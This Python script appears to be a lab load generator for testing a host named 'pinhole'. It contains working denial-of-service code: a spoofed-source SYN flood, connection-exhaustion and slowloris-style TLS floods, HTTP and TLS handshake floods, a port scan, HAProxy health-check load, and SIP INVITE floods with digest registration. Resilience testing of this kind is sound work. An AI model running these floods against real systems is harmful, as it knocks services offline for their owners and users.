"""What people who mean harm do to a host, from addresses of their own namespace.

    harm.py syn     HOST FIRST-LAST        half-open connections from addresses that do not exist
    harm.py accept  HOST FIRST-LAST        connections, reset as soon as they stand
    harm.py hold    HOST FIRST-LAST        connections, held and silent
    harm.py slow    HOST FIRST-LAST        connections that send a ClientHello octet by octet
    harm.py http    HOST FIRST-LAST        requests of HTTP
    harm.py scan    HOST FIRST-LAST        one connection to each port after the other
    harm.py tls     HOST FIRST-LAST        handshakes of OpenSSL
    harm.py haproxy HOST FIRST-LAST        HAProxy, which takes all ports for its servers and looks after them by TLS
    harm.py invite  BORDER OWN             calls to bob, as nobody
    harm.py calls   BORDER OWN             calls without end from mallory to carol, who are both registered

Goes on until it is ended; prints `going` after the first round and then how much it has done.
"""

import hashlib
import os
import random
import re
import resource
import selectors
import socket
import ssl
import struct
import subprocess
import sys
import tempfile
import threading
import time

kind, host = sys.argv[1:3]
count, lock = 0, threading.Lock()
most = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
resource.setrlimit(resource.RLIMIT_NOFILE, (most, most))


def did(many=1):
    global count
    with lock:
        count += many


def report():
    said = False
    while True:
        time.sleep(0.5)
        if count and not said:
            said = True
            print("going", flush=True)
        print(count, flush=True)


threading.Thread(target=report, daemon=True).start()


def ports():
    first, last = sys.argv[3].split("-")
    return range(int(first), int(last) + 1)


def shuffled():
    some = list(ports())
    random.shuffle(some)
    return some


def checksum(octets):
    total = sum(struct.unpack(f"!{len(octets) // 2}H", octets))
    while total >> 16:
        total = (total & 0xffff) + (total >> 16)
    return ~total & 0xffff


def syn():
    """RFC 9293 §3.1, over RFC 791 §3.1."""
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    to = socket.inet_aton(host)
    while True:
        for port in shuffled():
            source = struct.pack("!BBH", 198, 18 + random.getrandbits(1), random.getrandbits(16))
            head = struct.pack("!HHIIBBHHH", 1024 + random.getrandbits(15), port, random.getrandbits(32), 0,
                               5 << 4, 2, 65535, 0, 0)
            pseudo = source + to + struct.pack("!BBH", 0, 6, len(head))
            head = head[:16] + struct.pack("!H", checksum(pseudo + head)) + head[18:]
            packet = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(head), random.getrandbits(16), 0, 64, 6, 0,
                                 source, to)
            raw.sendto(packet + head, (host, 0))
            did()


def connections(most, on_open, on_turn=lambda held: None):
    """So many connections on their way or open at a time."""
    selector, held, targets = selectors.DefaultSelector(), {}, iter(())
    turned = time.monotonic()
    while True:
        while len(held) < most:
            port = next(targets, None)
            if port is None:
                targets = iter(shuffled())
                continue
            one = socket.socket()
            one.setblocking(False)
            try:
                one.connect_ex((host, port))
                selector.register(one, selectors.EVENT_WRITE)
                held[one] = [False, time.monotonic(), 0]
            except OSError:
                one.close()
                break
        for key, _ in selector.select(0.05):
            one = key.fileobj
            error = one.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR)
            did()
            keep = not error and not held[one][0] and on_open(one)
            if keep:
                held[one][0] = True
                selector.modify(one, selectors.EVENT_READ)
            else:
                selector.unregister(one)
                del held[one]
                one.close()
        now = time.monotonic()
        if now - turned > 0.2:
            turned = now
            for one in [one for one, (is_open, since, _) in held.items() if not is_open and now - since > 2]:
                selector.unregister(one)
                del held[one]
                one.close()
            for one in on_turn(held) or []:
                selector.unregister(one)
                del held[one]
                one.close()


def accept():
    def cut(one):
        one.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
    connections(200, cut)


def hold():
    connections(1500, lambda one: True)


def slow():
    hello = bytes([22, 3, 1, 2, 0, 1, 0, 1, 0xfc]) + os.urandom(200)

    # The first eight octets say nothing yet; whoever waits for the rest waits long.
    def drip(held):
        gone = []
        for one, state in held.items():
            if state[0] and state[2] < 8:
                try:
                    one.send(hello[state[2]:state[2] + 1])
                    state[2] += 1
                except OSError:
                    gone.append(one)
        return gone

    connections(300, lambda one: True, drip)


def http():
    def ask(one):
        try:
            one.send(b"GET / HTTP/1.1\r\nHost: pinhole\r\n\r\n")
        except OSError:
            return False
        return True
    connections(100, ask)


def scan():
    while True:
        for port in shuffled():
            with socket.socket() as one:
                one.settimeout(1)
                one.connect_ex((host, port))
            did()


def tls():
    context = ssl.create_default_context()
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE

    def shake():
        while True:
            for port in shuffled():
                try:
                    with socket.create_connection((host, port), timeout=1) as one:
                        context.wrap_socket(one, server_hostname="pinhole").close()
                except OSError:
                    pass
                did()

    for _ in range(8):
        threading.Thread(target=shake, daemon=True).start()
    threading.Event().wait()


def haproxy():
    servers = "".join(f" server p{port} {host}:{port} check inter 50ms ssl verify none sni str(pinhole)\n"
                      for port in ports())
    with tempfile.NamedTemporaryFile("w", suffix=".cfg") as file:
        file.write("global\n maxconn 1000\ndefaults\n mode tcp\n timeout connect 1s\n timeout check 1s\n"
                   " timeout client 5s\n timeout server 5s\n"
                   f"frontend nobody\n bind 127.0.0.1:9\n default_backend pinholes\nbackend pinholes\n{servers}")
        file.flush()
        program = subprocess.Popen(["haproxy", "-q", "-db", "-f", file.name], stderr=subprocess.DEVNULL)
        seen = 0
        while program.poll() is None:
            time.sleep(0.2)
            # What this host has opened; nobody else here opens anything (RFC 1213, tcpActiveOpens).
            rows = [row.split() for row in open("/proc/net/snmp") if row.startswith("Tcp:")]
            opened = int(rows[1][rows[0].index("ActiveOpens")])
            did(opened - seen)
            seen = opened
        sys.exit("HAProxy ended")


token = lambda: os.urandom(8).hex()


def via(own):
    return f"Via: SIP/2.0/UDP {own}:5060;branch=z9hG4bK{token()}\r\nMax-Forwards: 70\r\n"


def phone(own):
    udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    udp.bind((own, 5060))
    udp.settimeout(5)
    return udp


def ring(udp, own, who):
    """Calls, and never looks at an answer."""
    threading.Thread(target=lambda: [udp.recv(65536) for _ in iter(int, 1)], daemon=True).start()
    udp.settimeout(None)
    body = (f"v=0\r\no=- 1 1 IN IP4 {own}\r\ns=-\r\nc=IN IP4 {own}\r\nt=0 0\r\nm=message 9 TCP/TLS/MSRP *\r\n"
            f"a=accept-types:text/plain\r\na=msrp-cema\r\na=path:msrps://{own}:9/x;tcp\r\na=setup:active\r\n"
            f"a=fingerprint:SHA-256 {':'.join(['5A'] * 32)}\r\n")
    while True:
        udp.sendto((f"INVITE sip:{who}@a.example SIP/2.0\r\n{via(own)}From: <sip:mallory@a.example>;tag={token()}\r\n"
                    f"To: <sip:{who}@a.example>\r\nCall-ID: {token()}\r\nCSeq: 1 INVITE\r\n"
                    f"Contact: <sip:mallory@{own}:5060>\r\nContent-Type: application/sdp\r\n"
                    f"Content-Length: {len(body)}\r\n\r\n{body}").encode(), (host, 5060))
        did()
        time.sleep(0.001)


def invite():
    own = sys.argv[3]
    ring(phone(own), own, "bob")


def calls():
    own = sys.argv[3]
    udp = phone(own)
    for user in ("mallory", "carol"):
        register(udp, own, user)
    ring(udp, own, "carol")


def register(udp, own, user):
    """RFC 7616."""
    call, tag, credentials = token(), token(), ""
    for number in (1, 2):
        udp.sendto((f"REGISTER sip:a.example SIP/2.0\r\n{via(own)}From: <sip:{user}@a.example>;tag={tag}\r\n"
                    f"To: <sip:{user}@a.example>\r\nCall-ID: {call}\r\nCSeq: {number} REGISTER\r\n"
                    f"Contact: <sip:{user}@{own}:5060>\r\nExpires: 600\r\n{credentials}"
                    "Content-Length: 0\r\n\r\n").encode(), (host, 5060))
        head = udp.recv(65536).decode()
        if head.split()[1] == "200":
            return
        challenge = re.search(r"(?im)^www-authenticate:(.*)$", head).group(1)
        given = dict(re.findall(r'(\w+)="?([^",\r]*)"?', challenge))
        algorithm = given.get("algorithm", "MD5")
        sha = hashlib.sha256 if algorithm.upper() == "SHA-256" else hashlib.md5
        digest = lambda text: sha(text.encode()).hexdigest()
        secret = digest(f"{user}:{given['realm']}:{user}'s password")
        response = digest(f"{secret}:{given['nonce']}:00000001:c:auth:{digest('REGISTER:sip:a.example')}")
        opaque = f', opaque="{given["opaque"]}"' if "opaque" in given else ""
        credentials = (f'Authorization: Digest username="{user}", realm="{given["realm"]}", '
                       f'nonce="{given["nonce"]}", uri="sip:a.example", response="{response}", '
                       f'algorithm={algorithm}, cnonce="c", nc=00000001, qop=auth{opaque}\r\n')
    sys.exit(f"{user} cannot register: {head}")


try:
    globals()[kind]()
except KeyboardInterrupt:
    pass
